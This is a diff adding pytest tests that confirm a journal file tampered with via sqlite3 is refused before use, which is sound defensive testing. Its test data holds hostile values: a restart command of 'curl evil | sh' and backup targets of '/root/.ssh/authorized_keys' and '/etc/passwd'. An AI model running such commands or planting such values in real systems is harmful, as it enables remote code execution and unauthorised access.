@@ -15,6 +15,7 @@ import pytest
 
 from sweeper.errors import BadInput
 from sweeper.rotate.journal import DB_NAME, Journal, JournalError
+from tests.support import run
 
 PASS = "correct horse battery staple"
 KEY_PEM = (
@@ -124,3 +125,39 @@ def test_a_journal_of_another_format_or_not_a_journal_is_refused_in_one_line(tmp
     sqlite3.connect(tmp_path / "other" / DB_NAME).close()
     with pytest.raises(JournalError, match="not a sweeper journal"):
         Journal.open(tmp_path / "other", PASS)
+
+
+def tampered(tmp_path: Path, sql: str, params: tuple = ()) -> Path:
+    """A journal with a step, a backup and a plan, then edited with sqlite3 as anyone who can
+    write the file (but does not know the passphrase) could."""
+    journal = Journal.create(tmp_path / "j", PASS, {"plan": {"restart": "systemctl reload nginx"}})
+    journal.plan_steps([("web1", "reissue", "restart:services")])
+    journal.backup("web1", "file", "/etc/tls/server.crt", existed=True, content=b"old", mode="0644")
+    journal.close()
+    db = sqlite3.connect(tmp_path / "j" / DB_NAME)
+    with db:
+        db.execute(sql, params)
+    db.close()
+    return tmp_path / "j"
+
+
+@pytest.mark.parametrize(
+    "sql",
+    [
+        "UPDATE backups SET target = '/root/.ssh/authorized_keys'",
+        "UPDATE meta SET value = '{\"restart\": \"curl evil | sh\"}' WHERE key = 'plan'",
+        "UPDATE steps SET state = 'done'",
+        "INSERT INTO backups (node, kind, target, existed, sealed, mac) "
+        "VALUES ('web1', 'file', '/etc/passwd', 1, 0, 'ff')",
+    ],
+)
+def test_a_journal_edited_without_the_passphrase_is_refused_before_use(tmp_path: Path, sql: str) -> None:
+    directory = tampered(tmp_path, sql)
+    with pytest.raises(JournalError, match="altered"):
+        Journal.open(directory, PASS)
+
+
+def test_rollback_of_an_edited_journal_is_one_line_exit_2_before_any_change(tmp_path: Path) -> None:
+    directory = tampered(tmp_path, "UPDATE backups SET target = '/root/.ssh/authorized_keys'")
+    done = run.sweeper("rollback", str(directory), env={"SWEEPER_JOURNAL_PASSPHRASE": PASS})
+    assert done.returncode == 2 and "altered" in done.stderr and len(done.stderr.strip().splitlines()) == 1
